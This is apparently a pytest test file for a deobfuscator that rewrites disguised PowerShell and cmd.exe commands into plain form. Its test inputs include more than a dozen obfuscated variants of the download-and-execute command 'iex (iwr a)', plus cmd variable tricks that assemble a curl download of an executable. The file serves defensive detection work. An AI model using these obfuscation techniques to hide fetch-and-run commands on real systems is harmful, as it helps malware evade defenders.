"""What hides the words of PowerShell and cmd.exe is rewritten as what it comes to."""

import time

import pytest

from ostiary.program.batch.folding import MAX_ROUNDS, rewritten, worked_out

PLAIN = "iex (iwr a)"
HIDDEN = [
    "&('i'+'ex') (&('iw'+'r') a)",
    "&([string]::join('',('x','e','i')[2..0])) (iwr a)",
    "&(-join('x','e','i')[2,1,0]) (iwr a)",
    "&('{1}{0}' -f 'x','ie') (iwr a)",
    "&($env:ComSpec[4,15,25] -join '') (iwr a)",
    "&(gcm i?x) (iwr a)",
    "&('iZx' -replace 'Z','e') (iwr a)",
    "&('iZx'.Replace('Z','e')) (iwr a)",
    "&([char]105+[char]0x65+[char](120)) (iwr a)",
    "i`e`x (i`w`r a)",
    "i^e^x (i^w^r a)",
    "&([char[]](105,101,120)-join'') (iwr a)",
    "&(((104,100,121)|ForEach-Object{[char]($_ -bxor 1)})-join'') (iwr a)",
    "&([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4'))) (iwr a)",
]
OTHERS = [
    ("$a='ie';$b='x';&($a+$b) (iwr a)", "iex (iwr a)"),
    (
        "(New-Object Net.WebClient).('Down'+'loadString').Invoke('a')|iex",
        ".DownloadString('a')|iex",
    ),
    ("set a=cu&& set b=rl&& call %a%%b% -o a.exe a", "call curl -o a.exe a"),
    ("set a=lruc&& !a:~3,1!!a:~2,1!!a:~1,1!!a:~0,1! a", "&& curl a"),
    ("set a=cXrl&& %a:X=u% a", "&& curl a"),
    ("%comspec:~-7,1%", "c"),
]


@pytest.mark.parametrize("text", HIDDEN)
def test_a_name_comes_to_what_it_is(text: str) -> None:
    assert rewritten(text) == PLAIN


@pytest.mark.parametrize(("text", "part"), OTHERS)
def test_variables_and_members(text: str, part: str) -> None:
    assert part in rewritten(text)


@pytest.mark.parametrize(
    "text",
    [
        "Write-Host 'a + b'; Get-ChildItem -Path 'C:\\Program Files' | Sort-Object Name",
        "$x = 'a'; $x = 'b'; Write-Host $x",
        "for %%f in (*.txt) do type %%f",
        "",
    ],
)
def test_what_hides_nothing_stays(text: str) -> None:
    assert rewritten(text) == text


@pytest.mark.parametrize(
    "piece",
    ["'a',", "('a'", "'a'+", "[char]1+", "1,", "'a'[0..1]", "$a='b';", "%a%", "{0}", "-join"],
)
def test_the_time_does_not_grow_with_the_square(piece: str) -> None:
    start = time.process_time()
    rewritten(piece * (16_000 // len(piece)))
    assert time.process_time() - start < 20


def test_what_is_left_over_is_told() -> None:
    assert worked_out("'i'+'ex'") == ("'iex'", True)
    assert not worked_out("'i'" + ".Replace('i','j')" * (MAX_ROUNDS + 1))[1]
    assert not worked_out("a" * 20_000)[1]
